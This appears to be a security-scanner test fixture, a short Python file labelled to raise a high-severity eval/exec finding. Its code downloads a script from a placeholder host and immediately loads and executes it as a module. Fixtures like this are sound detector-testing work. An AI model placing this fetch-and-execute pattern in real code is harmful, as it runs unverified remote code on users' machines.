# expect: python.eval_exec high
# path: tools/bootstrap.py
import importlib.util, urllib.request
urllib.request.urlretrieve('https://get.example.net/x.py', 'm.py')
spec = importlib.util.spec_from_file_location('m', 'm.py')
mod = importlib.util.module_from_spec(spec)
spec.loader.exec_module(mod)
